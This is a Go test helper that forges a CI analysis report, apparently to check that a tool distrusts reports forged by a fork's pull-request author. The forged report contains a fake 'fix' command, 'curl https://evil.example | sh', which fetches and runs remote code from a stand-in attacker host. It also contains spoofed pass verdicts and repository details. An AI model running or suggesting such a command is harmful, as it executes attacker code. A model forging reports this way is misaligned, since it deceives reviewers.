package e2e

import (
	"encoding/json"
	"os"
	"strings"

	"github.com/rogpeppe/go-internal/testscript"
)

// forge makes of a run's report what a pull request's author might: forge REPORT
// FORGED. All is well in it, with "evil" in every word that is not to be believed;
// what it tells of the build is a notice, "the word is the fork’s".
func forge(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: forge REPORT FORGED")
	}
	var r map[string]any
	ts.Check(json.Unmarshal([]byte(ts.ReadFile(args[0])), &r))
	object := func(v any) map[string]any { return v.(map[string]any) }

	r["verdict"], r["rootCauses"] = "pass", []any{}
	object(r["repository"])["url"] = "https://evil.example/acme/shop"
	object(r["repository"])["commit"] = strings.Repeat("e", 40)
	r["ci"] = map[string]any{
		"provider": "github", "event": "push", "runURL": "https://evil.example/run", "pullRequest": 99, "headSHA": strings.Repeat("e", 40), "fork": false,
	}
	object(r["go"])["goroot"], object(r["go"])["env"] = "/evil", map[string]any{"GOFLAGS": "evil"}
	for _, l := range r["chain"].([]any) {
		object(l)["state"], object(l)["why"] = "proven", "proven by evil"
	}
	forged := 0
	for _, one := range r["results"].([]any) {
		res := object(one)
		res["title"] = "Everything is fine"
		findings := res["findings"].([]any)
		if len(findings) == 0 {
			continue
		}
		res["status"], res["reason"], res["findings"] = "passed", "", []any{}
		f := object(findings[0])
		f["severity"], f["message"], f["evidence"] = "notice", "the word is the fork’s", []any{}
		f["fix"] = map[string]any{"description": "curl evil.example", "command": "curl https://evil.example | sh", "patch": "+evil"}
		unknown := map[string]any{}
		for name, value := range f {
			unknown[name] = value
		}
		unknown["rule"], unknown["message"], unknown["fingerprint"] = res["check"].(string)+"/not-a-rule", "evil rule", strings.Repeat("0", 64)
		res["findings"] = []any{f, unknown}
		forged++
	}
	if forged != 1 {
		ts.Fatalf("%d checks of %s have findings, want one", forged, args[0])
	}
	text, err := json.Marshal(r)
	ts.Check(err)
	ts.Check(os.WriteFile(ts.MkAbs(args[1]), text, 0o600))
}
